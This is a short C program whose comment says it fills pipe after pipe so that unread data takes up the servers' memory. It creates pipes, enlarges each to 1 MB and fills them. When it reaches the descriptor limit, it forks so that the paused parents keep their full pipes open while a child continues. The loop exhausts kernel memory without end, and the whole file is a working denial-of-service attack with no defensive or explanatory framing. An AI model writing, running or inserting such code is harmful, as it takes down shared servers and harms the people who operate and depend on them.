/* Fills pipe after pipe, so that what nobody reads takes memory of the servers. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>
int main(void) {
    static char block[65536];
    write(1, "started\n", 8);
    for (;;) {
        int ends[2];
        if (pipe2(ends, O_NONBLOCK) != 0) {
            if (fork() == 0)
                for (int fd = 3; fd < 5000; fd++)
                    close(fd);
            else
                pause();
            continue;
        }
        fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
        while (write(ends[1], block, sizeof block) > 0)
            ;
    }
}
